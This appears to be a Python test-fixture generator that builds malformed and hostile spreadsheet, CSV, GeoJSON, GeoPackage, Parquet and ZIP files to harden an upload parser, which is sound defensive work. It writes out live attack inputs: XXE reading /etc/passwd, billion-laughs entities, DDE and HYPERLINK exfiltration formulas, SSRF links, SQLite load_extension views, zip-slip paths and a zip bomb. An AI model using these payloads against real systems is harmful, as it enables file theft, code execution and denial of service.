"""Files that nobody would send by mistake: drawn from seeds, one kind after the other."""

from __future__ import annotations

import io
import json
import random
import sqlite3
import struct
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Final

import geopandas as gpd
import pyarrow as pa
import pyarrow.parquet as pq
from openpyxl import Workbook
from shapely.geometry import Polygon

Draw = Callable[[random.Random], bytes]
ROWS: Final = [
    ["school_code", "name", "kind", "lon", "lat"],
    ["990001", "Trường A", "primary", 107.1, 9.8],
]
SQUARE: Final = Polygon([(107, 9), (107.1, 9), (107.1, 9.1), (107, 9.1)])
EMPTY_PDF: Final = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: what it is, the ending of its name, and its bytes."""

    what: str
    suffix: str
    data: bytes


def workbook() -> bytes:
    """Return a workbook that is as it should be."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in ROWS:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def frame() -> gpd.GeoDataFrame:
    """Return two areas that are as they should be."""
    columns = {"code": ["99101", "99102"], "name": ["A", "B"], "kind": ["ward", "ward"]}
    return gpd.GeoDataFrame(columns, geometry=[SQUARE, SQUARE.buffer(0.01)], crs=4326)


def written(suffix: str) -> bytes:
    """Return those areas as a file of a kind; a shapefile is packed."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, f"areas{suffix}")
        if suffix == ".parquet":
            frame().to_parquet(path)
        elif suffix == ".zip":
            frame().to_file(Path(folder, "areas.shp"))
            return packed({one.name: one.read_bytes() for one in Path(folder).iterdir()})
        else:
            frame().to_file(path)
        return path.read_bytes()


def packed(files: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return files as one ZIP file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as target:
        for name, data in files.items():
            target.writestr(name, data)
    return out.getvalue()


def parts(data: bytes) -> dict[str, bytes]:
    """Return what a ZIP file holds."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        return {one.filename: source.read(one) for one in source.infolist()}


class Forge:
    """Makes hostile files; what is costly to make is made once."""

    def __init__(self) -> None:
        self.good = {
            ".xlsx": workbook(),
            ".csv": "\n".join(",".join(map(str, row)) for row in ROWS).encode(),
            **{one: written(one) for one in (".gpkg", ".geojson", ".parquet", ".zip")},
        }
        self._special = [*self._books(), *self._tables(), *self._maps(), *self._archives()]

    def files(self, n_files: int, seed: int) -> list[Hostile]:
        """Return the special files first, then spoiled copies of good ones."""
        dice = random.Random(seed)  # noqa: S311 (a seed, no secret)
        found = [Hostile(what, suffix, make(dice)) for what, suffix, make in self._special]
        suffixes = sorted(self.good)
        while len(found) < n_files:
            suffix = suffixes[len(found) % len(suffixes)]
            how, spoil = dice.choice(SPOILS)
            other = dice.choice(suffixes) if dice.random() < 0.1 else suffix
            found.append(Hostile(f"{how} {suffix}", other, spoil(dice, self.good[suffix])))
        return found[:n_files]

    def _with_sheet(self, xml: bytes, name: str = "xl/worksheets/sheet1.xml") -> Draw:
        return lambda _: packed(parts(self.good[".xlsx"]) | {name: xml})

    def _books(self) -> list[tuple[str, str, Draw]]:
        head = b'<?xml version="1.0"?>'
        sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        laughs = b"".join(
            b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10 if n else b"ha" * 10)
            for n in range(12)
        )
        far = b'<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        far += b'<row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'
        deep = b"<a>" * 200_000
        outside = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        text = b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&%s;</t></is></c></row>'
        zeros = b"0" * 40_000_000
        return [
            (
                "entities that grow",
                ".xlsx",
                self._with_sheet(
                    head
                    + b"<!DOCTYPE x ["
                    + laughs
                    + b"]>"
                    + sheet
                    + text % b"l11"
                    + b"</sheetData></worksheet>"
                ),
            ),
            (
                "an entity of a file",
                ".xlsx",
                self._with_sheet(
                    head + outside + sheet + text % b"e" + b"</sheetData></worksheet>"
                ),
            ),
            ("one cell far away", ".xlsx", self._with_sheet(head + sheet + far)),
            (
                "a negative cell",
                ".xlsx",
                self._with_sheet(
                    head
                    + sheet
                    + b'<sheetData><row r="0"><c r="A0"><v>1</v></c></row></sheetData></worksheet>'
                ),
            ),
            (
                "a million columns",
                ".xlsx",
                self._with_sheet(
                    head
                    + sheet
                    + b'<sheetData><row r="1">'
                    + b"<c><v>1</v></c>" * 1_000_000
                    + b"</row></sheetData></worksheet>"
                ),
            ),
            ("deep elements", ".xlsx", self._with_sheet(head + sheet + deep)),
            (
                "shared strings out of range",
                ".xlsx",
                self._with_sheet(
                    head
                    + sheet
                    + b'<sheetData><row r="1"><c r="A1" t="s"><v>99999999999</v></c></row>'
                    b"</sheetData></worksheet>"
                ),
            ),
            ("a sheet of zeros", ".xlsx", self._with_sheet(head + sheet + zeros)),
            (
                "many strings",
                ".xlsx",
                self._with_sheet(
                    head + b"<sst>" + b"<si><t>x</t></si>" * 3_000_000 + b"</sst>",
                    "xl/sharedStrings.xml",
                ),
            ),
            ("formulas", ".xlsx", self._formulas),
            ("an old workbook", ".xlsx", lambda dice: b"\xd0\xcf\x11\xe0" + dice.randbytes(5_000)),
        ]

    def _formulas(self, _: random.Random) -> bytes:
        book = Workbook()
        sheet = book.active
        assert sheet is not None
        sheet.append(ROWS[0])
        sheet.append(
            ["=1+1", '=HYPERLINK("http://x.example/"&A1)', "=cmd|'/c calc'!A0", "=1/0", "@SUM(1)"]
        )
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()

    def _tables(self) -> list[tuple[str, str, Draw]]:
        head = b"school_code,name,kind,lon,lat\n"
        return [
            (
                "a million columns of text",
                ".csv",
                lambda _: b",".join(b"c%d" % n for n in range(1_000_000)) + b"\n1\n",
            ),
            (
                "a field of ten megabytes",
                ".csv",
                lambda _: head + b'1,"' + b"x" * 10_000_000 + b'",primary,107,9\n',
            ),
            ("an open quotation mark", ".csv", lambda _: head + b'1,"' + b"x\n" * 100_000),
            ("NUL letters", ".csv", lambda _: head + b"1,\0\0\0,primary,107,9\n" * 100),
            ("no UTF-8", ".csv", lambda _: head + b"1,\xff\xfe\xfa,primary,107,9\n"),
            ("surrogates in UTF-8", ".csv", lambda _: head + b"1,\xed\xa0\x80,primary,107,9\n"),
            (
                "two marks",
                ".csv",
                lambda _: b"\xef\xbb\xbf\xef\xbb\xbf" + head + b"1,a,primary,107,9\n",
            ),
            ("UTF-16 cut in half", ".csv", lambda _: "school_code,name\n1,ă".encode("utf-16")[:-1]),
            ("UTF-32", ".csv", lambda _: "school_code,name\n1,a".encode("utf-32")),
            (
                "endless numbers",
                ".csv",
                lambda _: head + b"1,a,primary," + b"9" * 100_000 + b",1e400\n",
            ),
            (
                "no numbers",
                ".csv",
                lambda _: head + b"1,a,primary,NaN,-Infinity\n2,b,primary,1_0,0x10\n",
            ),
            ("commas only", ".csv", lambda _: b"," * 12_000_000),
            ("empty lines", ".csv", lambda _: b"\n" * 5_000_000 + b"x"),
            ("formulas", ".csv", lambda _: head + b"=1+1,@x,+1,-1,\t=2\n"),
            ("nothing", ".csv", lambda _: b""),
            ("spaces", ".csv", lambda _: b"\r\n\t ,;" * 100),
        ]

    def _maps(self) -> list[tuple[str, str, Draw]]:
        def collection(*features: str) -> bytes:
            return ('{"type":"FeatureCollection","features":[' + ",".join(features) + "]}").encode()

        def feature(geometry: str, values: str = '{"code":"1"}') -> str:
            return f'{{"type":"Feature","properties":{values},"geometry":{geometry}}}'

        point = '{"type":"Point","coordinates":[%s]}'
        deep = "[" * 100_000 + "]" * 100_000
        nested = '{"a":' * 50_000 + "1" + "}" * 50_000
        vrt = (
            '<OGRVRTDataSource><OGRVRTLayer name="p"><SrcDataSource>/etc/passwd</SrcDataSource>'
            "</OGRVRTLayer></OGRVRTDataSource>"
        )
        algorithm = (
            '{"type":"gdal_streamed_alg","command_line":"gdal vector pipeline ! read /etc/passwd"}'
        )
        return [
            (
                "deep coordinates",
                ".geojson",
                lambda _: collection(feature('{"type":"Polygon","coordinates":' + deep + "}")),
            ),
            ("deep properties", ".geojson", lambda _: collection(feature(point % "107,9", nested))),
            (
                "deep collections",
                ".geojson",
                lambda _: collection(
                    feature('{"type":"GeometryCollection","geometries":[' * 20_000 + "]}" * 20_000)
                ),
            ),
            (
                "no numbers",
                ".geojson",
                lambda _: collection(
                    feature(point % "NaN,Infinity"), feature(point % "1e400,-1e400")
                ),
            ),
            (
                "endless numbers",
                ".geojson",
                lambda _: collection(feature(point % ("9" * 100_000 + ",9"))),
            ),
            ("one coordinate", ".geojson", lambda _: collection(feature(point % "107"))),
            (
                "a surrogate",
                ".geojson",
                lambda _: collection(feature(point % "107,9", '{"name":"\\ud800"}')),
            ),
            (
                "NUL letters",
                ".geojson",
                lambda _: collection(feature(point % "107,9", '{"name":"\\u0000"}')),
            ),
            (
                "keys twice",
                ".geojson",
                lambda _: collection(feature(point % "107,9", '{"a":1,"a":"x"}')),
            ),
            (
                "a hundred thousand columns",
                ".geojson",
                lambda _: collection(
                    feature(point % "107,9", json.dumps({f"c{n}": n for n in range(100_000)}))
                ),
            ),
            (
                "an unknown system",
                ".geojson",
                lambda _: (
                    b'{"type":"FeatureCollection","crs":{"type":"name","properties":{"name":"x"}},"features":[]}'
                ),
            ),
            (
                "a far system",
                ".geojson",
                lambda _: (
                    b'{"type":"FeatureCollection","crs":{"type":"link","properties":{"href":"http://127.0.0.1:9/"}},"features":[]}'
                ),
            ),
            ("another program's file", ".geojson", lambda _: vrt.encode()),
            ("a command", ".geojson", lambda _: algorithm.encode()),
            (
                "other areas of a file",
                ".json",
                lambda _: b'{"type":"Topology","objects":{},"arcs":[]}',
            ),
            ("a list", ".json", lambda _: b"[1,2,3]"),
            ("a virtual file", ".gpkg", lambda _: vrt.encode()),
            ("a database of another kind", ".gpkg", self._sqlite("CREATE TABLE x (a)")),
            (
                "a trigger",
                ".gpkg",
                self._gpkg("CREATE TRIGGER t AFTER INSERT ON areas BEGIN DELETE FROM areas; END"),
            ),
            (
                "a view that never ends",
                ".gpkg",
                self._gpkg(
                    "ALTER TABLE areas RENAME TO kept;"
                    "CREATE VIEW areas AS WITH RECURSIVE c(n) AS"
                    " (SELECT 1 UNION ALL SELECT n + 1 FROM c)"
                    " SELECT n AS fid, (SELECT geom FROM kept LIMIT 1) AS geom, 'x' AS code FROM c"
                ),
            ),
            (
                "a view that loads",
                ".gpkg",
                self._gpkg(
                    "ALTER TABLE areas RENAME TO kept;"
                    "CREATE VIEW areas AS SELECT fid, geom, load_extension('/tmp/x.so') AS code"
                    " FROM kept"
                ),
            ),
            (
                "a view of a great blob",
                ".gpkg",
                self._gpkg(
                    "ALTER TABLE areas RENAME TO kept;"
                    "CREATE VIEW areas AS SELECT fid, geom, hex(zeroblob(900000000)) AS code"
                    " FROM kept"
                ),
            ),
            (
                "a wrong geometry",
                ".gpkg",
                self._gpkg("UPDATE areas SET geom = x'47500001e6100000ffffffffffffffff'"),
            ),
            (
                "geometries that count too high",
                ".gpkg",
                self._gpkg(
                    "UPDATE areas SET geom = x'47500001e6100000' || x'0103000000ffffffffffffffff'"
                ),
            ),
            (
                "a schema that lies",
                ".gpkg",
                self._gpkg(
                    "PRAGMA writable_schema=ON;"
                    "UPDATE sqlite_master SET sql='CREATE TABLE areas(' WHERE name='areas'"
                ),
            ),
            ("columns of lists", ".parquet", self._parquet({"geometry": [[1.0]] * 10})),
            ("no geometry", ".parquet", self._parquet({"code": ["1"]})),
            (
                "many equal rows",
                ".parquet",
                self._parquet({"code": pa.array(["x" * 200] * 200_000).dictionary_encode()}),
            ),
            (
                "a footer that counts too high",
                ".parquet",
                lambda _: b"PAR1" + b"\0" * 20 + struct.pack("<I", 2**31 - 1) + b"PAR1",
            ),
            ("geometries that are none", ".parquet", self._geoparquet),
        ]

    def _sqlite(self, script: str) -> Draw:
        def make(_: random.Random) -> bytes:
            with tempfile.TemporaryDirectory() as folder:
                path = Path(folder, "x.gpkg")
                base = sqlite3.connect(path)
                base.executescript(script)
                base.close()
                return path.read_bytes()

        return make

    def _gpkg(self, script: str) -> Draw:
        def make(_: random.Random) -> bytes:
            with tempfile.TemporaryDirectory() as folder:
                path = Path(folder, "areas.gpkg")
                path.write_bytes(self.good[".gpkg"])
                base = sqlite3.connect(path)
                for trigger in base.execute(
                    "SELECT name FROM sqlite_master WHERE type='trigger'"
                ).fetchall():
                    base.execute(f'DROP TRIGGER "{trigger[0]}"')
                base.executescript(script)
                base.commit()
                base.close()
                return path.read_bytes()

        return make

    @staticmethod
    def _parquet(columns: dict[str, object]) -> Draw:
        def make(_: random.Random) -> bytes:
            out = io.BytesIO()
            pq.write_table(pa.table(columns), out)
            return out.getvalue()

        return make

    @staticmethod
    def _geoparquet(_: random.Random) -> bytes:
        facts = {
            "version": "1.0.0",
            "primary_column": "geometry",
            "columns": {"geometry": {"encoding": "WKB", "geometry_types": []}},
        }
        table = pa.table({"geometry": [b"\x01\xff\xff\xff\xff", b""]})
        out = io.BytesIO()
        pq.write_table(table.replace_schema_metadata({"geo": json.dumps(facts)}), out)
        return out.getvalue()

    def _archives(self) -> list[tuple[str, str, Draw]]:
        shape = parts(self.good[".zip"])

        def without(*endings: str) -> Draw:
            return lambda _: packed({n: d for n, d in shape.items() if not n.endswith(endings)})

        def named(name: str) -> Draw:
            return lambda _: packed({**shape, name: b"x"})

        def flagged(offset: int, value: int, suffix: str) -> Draw:
            def make(_: random.Random) -> bytes:
                data = bytearray(self.good[suffix])
                at = data.find(b"PK\x01\x02")
                data[at + offset : at + offset + 2] = struct.pack("<H", value)
                return bytes(data)

            return make

        def overlapping(_: random.Random) -> bytes:
            data = bytearray(packed({f"{n}.txt": b"0" * 1000 for n in range(9)} | shape))
            first = data.find(b"PK\x01\x02")
            second = data.find(b"PK\x01\x02", first + 1)
            data[second + 42 : second + 46] = data[first + 42 : first + 46]
            return bytes(data)

        found: list[tuple[str, str, Draw]] = [
            (f"without {' '.join(ends)}", ".zip", without(*ends))
            for ends in ((".shp",), (".shx",), (".dbf",), (".prj",), (".shx", ".dbf", ".prj"))
        ]
        found += [
            (f"a file called {name!r}", ".zip", named(name))
            for name in (
                "../../etc/x",
                "/etc/x",
                "C:/x",
                "a\\b",
                "x.vrt",
                "inner.zip",
                "x\n.shp",
                "B.SHP",
                "x" * 60_000,
            )
        ]
        found += [
            ("a password", ".zip", flagged(8, 1, ".zip")),
            ("a password", ".xlsx", flagged(8, 1, ".xlsx")),
            ("an unusual method", ".zip", flagged(10, 99, ".zip")),
            ("a bomb", ".zip", lambda _: packed({**shape, "bomb.txt": b"0" * 40_000_000})),
            ("many files", ".zip", lambda _: packed({f"{n}.txt": b"" for n in range(5_000)})),
            ("parts over each other", ".zip", overlapping),
            ("no directory", ".zip", lambda _: self.good[".zip"][:200]),
            ("a second directory", ".zip", lambda _: self.good[".zip"] + self.good[".xlsx"]),
            ("a workbook as a map", ".zip", lambda _: self.good[".xlsx"]),
            ("a map as a workbook", ".xlsx", lambda _: self.good[".zip"]),
        ]
        return found


def _cut(dice: random.Random, data: bytes) -> bytes:
    return data[: dice.randrange(len(data))]


def _flip(dice: random.Random, data: bytes) -> bytes:
    spoiled = bytearray(data)
    for _ in range(dice.choice((1, 3, 20, 200))):
        spoiled[dice.randrange(len(spoiled))] ^= 1 << dice.randrange(8)
    return bytes(spoiled)


def _fill(dice: random.Random, data: bytes) -> bytes:
    start = dice.randrange(len(data))
    n_bytes = dice.choice((4, 64, 1024))
    return data[:start] + bytes([dice.choice((0, 0xFF, 0x41))]) * n_bytes + data[start + n_bytes :]


def _insert(dice: random.Random, data: bytes) -> bytes:
    start = dice.randrange(len(data))
    return data[:start] + dice.randbytes(dice.choice((1, 7, 300))) + data[start:]


def _inside(dice: random.Random, data: bytes) -> bytes:
    """Spoil a part of a packed file and pack it again, so that its checksums fit."""
    if not data.startswith(b"PK"):
        return _flip(dice, data)
    files = parts(data)
    name = dice.choice(sorted(files))
    files[name] = dice.choice((_cut, _flip, _fill, _insert))(dice, files[name] or b"x")
    return packed(files)


def _noise(dice: random.Random, data: bytes) -> bytes:
    return data[:16] + dice.randbytes(dice.randrange(1, 20_000))


SPOILS: Final = [
    ("cut", _cut),
    ("flipped", _flip),
    ("filled", _fill),
    ("inserted", _insert),
    ("spoiled inside", _inside),
    ("noise", _noise),
]
